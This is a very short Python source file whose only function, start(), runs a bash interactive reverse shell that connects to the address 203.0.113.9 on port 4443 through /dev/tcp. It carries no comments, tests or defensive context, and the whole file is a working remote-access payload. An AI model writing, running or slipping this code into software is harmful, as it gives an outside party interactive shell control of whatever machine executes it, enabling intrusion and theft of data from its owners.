import os

PEER = "203.0.113.9"


def start():
    os.system(f"bash -c 'bash -i >& /dev/tcp/{PEER}/4443 0>&1'")
